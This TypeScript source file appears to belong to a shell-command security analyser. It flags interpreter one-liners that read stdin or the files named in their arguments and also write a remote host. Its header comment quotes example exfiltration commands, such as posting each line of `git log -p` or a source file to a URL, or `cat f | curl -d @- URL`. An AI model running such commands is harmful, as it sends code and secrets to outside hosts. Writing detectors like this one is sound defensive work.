/**
 * A one-liner that writes a remote address and reads its input: its stdin (`[urlopen("https://h/?"+l) for l in
 * sys.stdin]` fed `< src/app.py` or `git log -p |`), or the files named by its arguments (`open(sys.argv[1])`)
 * (docs/adr/0870). The shell's `cat f | curl -d @- URL` is ADR 0306; a one-liner's code cannot be followed to where
 * the input goes, so a written host and a read of the input are taken to meet, as ADR 0831 takes its arguments to.
 */
import type { SimpleCommand } from "../shell/index.ts";
import { oneLiner } from "./script-operands.ts";
import { codeHosts } from "./substitution-sends.ts";

/** Code reading its stdin: python, node, ruby, perl, php. */
const READS_STDIN =
  /\bsys\.stdin\b|\bfileinput\b|\binput\s*\(|\bprocess\.stdin\b|readFileSync\s*\(\s*(?:0\b|["'`]\/dev\/stdin)|\bSTDIN\b|\$stdin\b|<>|\bARGF\b|php:\/\/stdin/;
/** Code reading the files its arguments name. */
const READS_ARGUMENT_FILES =
  /\bopen\s*\(\s*sys\.argv|\bfileinput\b|readFileSync\s*\(\s*process\.argv|\bFile\.(?:read|open|readlines|foreach)\s*\(\s*ARGV|\bARGF\b|<>|\bopen\s*\(\s*(?:my\s+)?\$\w+\s*,\s*(?:["']<["']\s*,\s*)?\$ARGV|file_get_contents\s*\(\s*\$argv/;

/** The host a one-liner's code writes, when the code also reads its stdin; null otherwise. */
export function codeSendsStdin(cmd: SimpleCommand): string | null {
  const inline = oneLiner(cmd);
  if (inline === null || inline.code.dynamic || !READS_STDIN.test(inline.code.value)) return null;
  return codeHosts(inline.code.value)[0] ?? null;
}

/** `file → host` for the first file argument a one-liner with a written remote host reads; null otherwise. */
export function codeSendsArgumentFile(cmd: SimpleCommand): string | null {
  const inline = oneLiner(cmd);
  if (inline === null || inline.code.dynamic || !READS_ARGUMENT_FILES.test(inline.code.value)) return null;
  const host = codeHosts(inline.code.value)[0];
  if (host === undefined) return null;
  const at = cmd.args.indexOf(inline.code.value);
  const file = cmd.args.slice(at + 1).find((a) => !a.startsWith("-"));
  return file === undefined ? null : `${file} → ${host}`;
}
